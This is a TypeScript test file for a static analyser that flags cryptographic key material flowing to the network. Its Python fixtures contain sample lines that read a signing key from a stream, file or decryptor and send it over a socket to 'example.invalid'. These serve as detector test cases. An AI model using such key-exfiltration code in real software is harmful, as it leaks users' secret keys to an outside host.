import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';

/** How surely key material is sent. */
async function sent(text: string): Promise<string[]> {
  const { flows } = await analyseSources({ 'a.py': text });
  return flows.filter((one) => one.source === 'key' && one.sink === 'network').map((one) => one.confidence);
}

const MESSAGE = `
import io, socket, nacl.signing
class Message:
    def __init__(self, content=b''):
        self.packet = io.BytesIO(content)
    def take(self, count):
        return self.packet.read(count)
    def whole(self):
        return self.packet.getvalue()
def load(data):
    message = Message(data)
    name = message.take(8)
    key = message.take(32)
    KEPT
    return nacl.signing.SigningKey(key)
def greet(name):
    message = Message(name)
    socket.create_connection(('example.invalid', 22)).send(message.whole())
`;

describe('a key that is read of a stream', () => {
  it('does not make keys of all that such streams hold', async () => {
    expect(await sent(MESSAGE.replace('KEPT', 'pass'))).toEqual([]);
  });

  it('is a key where it goes', async () => {
    const theft = MESSAGE.replace('KEPT', `socket.create_connection(('example.invalid', 22)).send(key)`);
    expect(await sent(theft)).toEqual(['high']);
  });
});

// A thief reads again what the package reads: of a file that keeps a key, every part is one.
describe('a key that is read of a file', () => {
  it.each([
    ['again', `file = open(path)\n    key = file.read(32)\n    file.seek(0)\n    again = file.read(32)`],
    ['whole', `file = open(path)\n    key = file.read(32)\n    again = file`],
    ['by a function', `key = load(path)\n    again = load(path)`],
  ])('%s', async (_, reads) => {
    const theft = `
import socket, nacl.signing
def load(path):
    with open(path, 'rb') as file:
        return file.read(32)
def main(path):
    ${reads}
    socket.create_connection(('example.invalid', 22)).send(again)
    return nacl.signing.SigningKey(key)
`;
    expect(await sent(theft)).toEqual(['high']);
  });
});

const CIPHER = `
import os, socket, nacl.signing
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
def engine(key, iv, WAY):
    cipher = Cipher(algorithms.AES(key), modes.CTR(iv))
    return RESULT
def main(key, iv, data, flag=True):
    one = engine(key, iv, flag)
    socket.create_connection(('example.invalid', 22)).send(one.update(data))
def sign(key):
    return nacl.signing.SigningKey(key)
`;

describe('what a cipher gives', () => {
  it('is a key where it is decrypted', async () => {
    expect(await sent(CIPHER.replace('WAY', 'way').replace('RESULT', 'cipher.decryptor()'))).toContain('high');
  });

  it('is a key where it is checked at the end', async () => {
    const text = `
import socket, nacl.signing
from cryptography.hazmat.primitives.ciphers import Cipher
def main(mode, tag):
    socket.create_connection(('example.invalid', 22)).send(Cipher(mode).decryptor().finalize_with_tag(tag))
def sign(key):
    return nacl.signing.SigningKey(key)
`;
    expect(await sent(text)).toEqual(['high']);
  });

  it('is one perhaps where the same call encrypts as well', async () => {
    const both = CIPHER.replace('WAY', 'way').replace('RESULT', 'cipher.encryptor() if way else cipher.decryptor()');
    const found = await sent(both);
    expect(found).toContain('medium');
    expect(found).not.toContain('high');
  });

  it('is none where it is encrypted', async () => {
    expect(await sent(CIPHER.replace('WAY', 'way').replace('RESULT', 'cipher.encryptor()'))).not.toContain('high');
  });
});
